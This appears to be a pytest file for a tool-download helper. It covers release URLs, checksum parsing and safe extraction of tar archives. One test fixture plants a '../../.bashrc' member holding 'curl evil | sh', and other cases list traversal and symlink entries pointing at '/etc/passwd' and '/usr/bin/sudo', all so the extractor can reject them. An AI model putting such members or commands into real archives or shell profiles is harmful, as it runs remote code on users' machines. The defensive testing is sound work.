"""lab.tools: the download plan, checksum files as published, archive safety, records."""

from __future__ import annotations

import hashlib
import io
import tarfile
from pathlib import Path

import pytest

from lab import cli, config, downloads, tools
from lab.downloads import Download, Platform
from lab.errors import LabError
from lab.tools import Installed
from lab.ui import UI

PINNED = config.Config()  # kind v0.32.0, istio 1.30.0, kubectl v1.36.1, kustomize v5.8.1
KIND = "https://kind.sigs.k8s.io/dl/v0.32.0"
ISTIO = "https://github.com/istio/istio/releases/download/1.30.0"
KUBECTL = "https://dl.k8s.io/release/v1.36.1/bin"
KUSTOMIZE = "https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize%2Fv5.8.1"

# (os, arch, kind's file, istioctl's archive, kustomize's archive) as each project
# publishes them (kustomize: releasing/create-release.sh, `kustomize_<v>_<os>_<arch>.tar.gz`)
PLANS = [
    (
        "linux",
        "amd64",
        "kind-linux-amd64",
        "istioctl-1.30.0-linux-amd64.tar.gz",
        "kustomize_v5.8.1_linux_amd64.tar.gz",
    ),
    (
        "linux",
        "arm64",
        "kind-linux-arm64",
        "istioctl-1.30.0-linux-arm64.tar.gz",
        "kustomize_v5.8.1_linux_arm64.tar.gz",
    ),
    (
        "darwin",
        "amd64",
        "kind-darwin-amd64",
        "istioctl-1.30.0-osx.tar.gz",
        "kustomize_v5.8.1_darwin_amd64.tar.gz",
    ),
    (
        "darwin",
        "arm64",
        "kind-darwin-arm64",
        "istioctl-1.30.0-osx-arm64.tar.gz",
        "kustomize_v5.8.1_darwin_arm64.tar.gz",
    ),
]


@pytest.mark.parametrize(("os_name", "arch", "kind", "istioctl", "kustomize"), PLANS)
def test_plan_names_the_published_files_for_each_platform(
    os_name: str, arch: str, kind: str, istioctl: str, kustomize: str
) -> None:
    kubectl = f"{os_name}/{arch}"
    assert downloads.plan_downloads(PINNED, Platform(os_name, arch)) == (
        Download("kind", "v0.32.0", f"{KIND}/{kind}", f"{KIND}/{kind}.sha256sum", kind),
        Download(
            "istioctl",
            "1.30.0",
            f"{ISTIO}/{istioctl}",
            f"{ISTIO}/{istioctl}.sha256",
            istioctl,
            member="istioctl",
        ),
        Download(
            "kubectl",
            "v1.36.1",
            f"{KUBECTL}/{kubectl}/kubectl",
            f"{KUBECTL}/{kubectl}/kubectl.sha256",
            "kubectl",
        ),
        Download(
            "kustomize",
            "v5.8.1",
            f"{KUSTOMIZE}/{kustomize}",
            f"{KUSTOMIZE}/checksums.txt",
            kustomize,
            member="kustomize",
        ),
    )


def test_plan_follows_the_pinned_versions() -> None:
    pinned = config.load(
        {"kind_version": "v0.99.1", "istio_version": "1.31.2", "kustomize_version": "v5.9.0"},
        environ={},
    )
    kind, istioctl, _, kustomize = downloads.plan_downloads(pinned, Platform("linux", "amd64"))
    assert kind.url == "https://kind.sigs.k8s.io/dl/v0.99.1/kind-linux-amd64"
    assert istioctl.url.endswith("/1.31.2/istioctl-1.31.2-linux-amd64.tar.gz")
    assert kustomize.url.endswith("/kustomize%2Fv5.9.0/kustomize_v5.9.0_linux_amd64.tar.gz")
    assert kustomize.checksum_url.endswith("/kustomize%2Fv5.9.0/checksums.txt")
    assert kustomize.version == "v5.9.0"


def test_plan_with_a_mirror_keeps_each_tools_layout_under_its_name() -> None:
    plans = downloads.plan_downloads(
        PINNED, Platform("linux", "arm64"), mirror="http://10.0.0.5:8000/lab-tools/"
    )
    assert [(plan.url, plan.checksum_url) for plan in plans] == [
        (
            "http://10.0.0.5:8000/lab-tools/kind/v0.32.0/kind-linux-arm64",
            "http://10.0.0.5:8000/lab-tools/kind/v0.32.0/kind-linux-arm64.sha256sum",
        ),
        (
            "http://10.0.0.5:8000/lab-tools/istioctl/1.30.0/istioctl-1.30.0-linux-arm64.tar.gz",
            "http://10.0.0.5:8000/lab-tools/istioctl/1.30.0/istioctl-1.30.0-linux-arm64.tar.gz.sha256",
        ),
        (
            "http://10.0.0.5:8000/lab-tools/kubectl/v1.36.1/bin/linux/arm64/kubectl",
            "http://10.0.0.5:8000/lab-tools/kubectl/v1.36.1/bin/linux/arm64/kubectl.sha256",
        ),
        (
            "http://10.0.0.5:8000/lab-tools/kustomize/kustomize%2Fv5.8.1/kustomize_v5.8.1_linux_arm64.tar.gz",
            "http://10.0.0.5:8000/lab-tools/kustomize/kustomize%2Fv5.8.1/checksums.txt",
        ),
    ]


@pytest.mark.parametrize("mirror", ["ftp://mirror/tools", "mirror.local/tools", ""])
def test_plan_refuses_a_mirror_that_is_not_an_http_url(mirror: str) -> None:
    with pytest.raises(LabError, match="not an http"):
        downloads.plan_downloads(PINNED, Platform("linux", "amd64"), mirror=mirror)


@pytest.mark.parametrize(
    ("system", "machine", "expected"),
    [
        ("Linux", "x86_64", Platform("linux", "amd64")),
        ("Linux", "aarch64", Platform("linux", "arm64")),
        ("Linux", "arm64", Platform("linux", "arm64")),
        ("Darwin", "x86_64", Platform("darwin", "amd64")),
        ("Darwin", "arm64", Platform("darwin", "arm64")),
    ],
)
def test_detect_platform_maps_machine_names(system: str, machine: str, expected: Platform) -> None:
    assert downloads.detect_platform(system, machine) == expected


@pytest.mark.parametrize(("system", "machine"), [("Windows", "AMD64"), ("Linux", "armv7l")])
def test_detect_platform_refuses_what_has_no_downloads(system: str, machine: str) -> None:
    with pytest.raises(LabError, match=f"no downloads for {system}/{machine}") as caught:
        downloads.detect_platform(system, machine)
    assert caught.value.hint and "PATH" in caught.value.hint


DIGEST = "3f9d7c2e5b1a4f8e6d0c9b7a5e3f1d2c4b6a8e0f2d4c6b8a0e2f4d6c8b0a2e4f"

# kustomize's checksums.txt: `sha256sum` of every artifact of the release, in name order.
KUSTOMIZE_CHECKSUMS = "".join(
    f"{digest}  kustomize_v5.8.1_{platform}\n"
    for digest, platform in [
        ("1" * 64, "darwin_amd64.tar.gz"),
        (DIGEST, "darwin_arm64.tar.gz"),
        ("2" * 64, "linux_amd64.tar.gz"),
        ("3" * 64, "linux_arm64.tar.gz"),
        ("4" * 64, "linux_ppc64le.tar.gz"),
        ("5" * 64, "linux_s390x.tar.gz"),
        ("6" * 64, "windows_amd64.zip"),
        ("7" * 64, "windows_arm64.zip"),
    ]
)


@pytest.mark.parametrize(
    ("text", "file_name"),
    [
        (DIGEST, "kubectl"),  # dl.k8s.io: the bare digest, no newline
        (f"{DIGEST}\n", "kubectl"),
        (f"{DIGEST}  kind-linux-amd64\n", "kind-linux-amd64"),  # kind: sha256sum output
        (f"{DIGEST} istioctl-1.30.0-osx.tar.gz\n", "istioctl-1.30.0-osx.tar.gz"),  # Istio
        (f"{DIGEST} *kind-darwin-arm64\n", "kind-darwin-arm64"),  # sha256sum -b
        (f"{DIGEST}  bin/kind-linux-arm64\n", "kind-linux-arm64"),
        (f"{'0' * 64}  kind-linux-amd64\n{DIGEST}  kind-linux-arm64\n", "kind-linux-arm64"),
        (KUSTOMIZE_CHECKSUMS, "kustomize_v5.8.1_darwin_arm64.tar.gz"),  # one file per release
        (DIGEST.upper(), "kubectl"),
    ],
)
def test_parse_checksum_reads_published_formats(text: str, file_name: str) -> None:
    assert downloads.parse_checksum(text, file_name) == DIGEST


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "empty"),
        (f"{DIGEST}  kind-darwin-amd64\n", "no digest for kind-linux-amd64"),
        ("<!DOCTYPE html><html>Not Found</html>", "not a SHA-256 digest"),
        (f"{DIGEST[:40]}  kind-linux-amd64", "not a SHA-256 digest"),
    ],
)
def test_parse_checksum_refuses_anything_else(text: str, problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        downloads.parse_checksum(text, "kind-linux-amd64")


def _member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


@pytest.mark.parametrize(
    ("info", "problem"),
    [
        (_member("istioctl"), None),
        (_member("./istioctl"), None),
        (_member("bin/../istioctl"), None),
        (_member("bin", tarfile.SYMTYPE, "istio-1.30.0/bin"), None),
        (_member("../istioctl"), "absolute path or '..'"),
        (_member("bin/../../istioctl"), "absolute path or '..'"),
        (_member("/usr/local/bin/istioctl"), "absolute path or '..'"),
        (_member("istioctl", tarfile.SYMTYPE, "/usr/bin/sudo"), "symlink"),
        (_member("bin/istioctl", tarfile.SYMTYPE, "../../etc/passwd"), "symlink"),
        (_member("istioctl", tarfile.LNKTYPE, "../outside"), "hard link"),
        (_member("null", tarfile.CHRTYPE), "device"),
    ],
)
def test_unsafe_member_names_what_escapes_the_archive(
    info: tarfile.TarInfo, problem: str | None
) -> None:
    found = downloads.unsafe_member(info)
    assert found is None if problem is None else found is not None and problem in found


ARCHIVE_PLAN = Download(
    "istioctl", "1.30.0", "http://mirror/istioctl.tar.gz", "http://mirror/x.sha256", "x", "istioctl"
)


def _tar_gz(path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return path


def test_extract_member_copies_the_binary_and_returns_its_digest(tmp_path: Path) -> None:
    archive = _tar_gz(tmp_path / "a.tar.gz", (_member("istioctl"), b"#!/bin/sh\necho 1.30.0\n"))
    out = io.BytesIO()
    digest = downloads.extract_member(archive, "istioctl", out, plan=ARCHIVE_PLAN)
    assert out.getvalue() == b"#!/bin/sh\necho 1.30.0\n"
    assert digest == hashlib.sha256(out.getvalue()).hexdigest()


def test_extract_member_refuses_an_archive_with_a_traversal_member(tmp_path: Path) -> None:
    archive = _tar_gz(
        tmp_path / "a.tar.gz",
        (_member("istioctl"), b"binary"),
        (_member("../../.bashrc"), b"curl evil | sh"),
    )
    out = io.BytesIO()
    with pytest.raises(LabError, match=r"refusing the istioctl archive .*'\.\./\.\./\.bashrc'"):
        downloads.extract_member(archive, "istioctl", out, plan=ARCHIVE_PLAN)
    assert out.getvalue() == b""
    assert not (tmp_path.parent / ".bashrc").exists()


@pytest.mark.parametrize(
    ("members", "problem"),
    [
        ([(_member("istio-1.30.0/bin/istioctl"), b"x")], "no regular file 'istioctl'"),
        ([(_member("istioctl", tarfile.SYMTYPE, "other"), b"")], "no regular file"),
        ([(_member("istioctl"), b"a"), (_member("./istioctl"), b"b")], "several 'istioctl'"),
    ],
)
def test_extract_member_wants_exactly_one_regular_file(
    tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes]], problem: str
) -> None:
    archive = _tar_gz(tmp_path / "a.tar.gz", *members)
    with pytest.raises(LabError, match=problem):
        downloads.extract_member(archive, "istioctl", io.BytesIO(), plan=ARCHIVE_PLAN)


def test_extract_member_refuses_what_is_not_a_tar_gz(tmp_path: Path) -> None:
    archive = tmp_path / "a.tar.gz"
    archive.write_bytes(b"<html>rate limited</html>")
    with pytest.raises(LabError, match="cannot unpack the istioctl archive"):
        downloads.extract_member(archive, "istioctl", io.BytesIO(), plan=ARCHIVE_PLAN)


def test_versions_file_round_trips_and_a_corrupt_one_counts_as_empty(tmp_path: Path) -> None:
    records = {"kind": Installed("v0.32.0", DIGEST, "https://x/kind", DIGEST)}
    tools.write_versions(tmp_path, records)
    assert tools.read_versions(tmp_path) == records
    assert [p.name for p in tmp_path.iterdir()] == [".versions.json"]
    (tmp_path / ".versions.json").write_text("{not json")
    assert tools.read_versions(tmp_path) == {}
    (tmp_path / ".versions.json").write_text('{"kind": {"version": 1}}')
    assert tools.read_versions(tmp_path) == {}


def test_is_installed_wants_the_pinned_version_and_the_recorded_digest(tmp_path: Path) -> None:
    plan = downloads.plan_downloads(PINNED, Platform("linux", "amd64"))[0]
    binary = tmp_path / "kind"
    binary.write_bytes(b"kind binary")
    binary.chmod(0o755)
    sha = hashlib.sha256(b"kind binary").hexdigest()
    assert tools.is_installed(plan, tmp_path, {"kind": Installed("v0.32.0", sha, "u", sha)})
    assert not tools.is_installed(plan, tmp_path, {})
    assert not tools.is_installed(plan, tmp_path, {"kind": Installed("v0.31.0", sha, "u", sha)})
    assert not tools.is_installed(plan, tmp_path, {"kind": Installed("v0.32.0", DIGEST, "u", sha)})
    binary.chmod(0o644)
    assert not tools.is_installed(plan, tmp_path, {"kind": Installed("v0.32.0", sha, "u", sha)})


@pytest.mark.parametrize("only", [("helm",), ("kind,helm",)])
def test_install_tools_refuses_an_unknown_tool_before_any_download(
    tmp_path: Path, only: tuple[str, ...]
) -> None:
    ctx = cli.Context(config=config.load(), ui=UI(stream=io.StringIO()))
    with pytest.raises(LabError, match=r"unknown tool.*helm") as caught:
        tools.install_tools(ctx, only=only)
    assert caught.value.hint == "choose among kind, istioctl, kubectl, kustomize"
    assert not (tmp_path / ".lab" / "bin").exists()
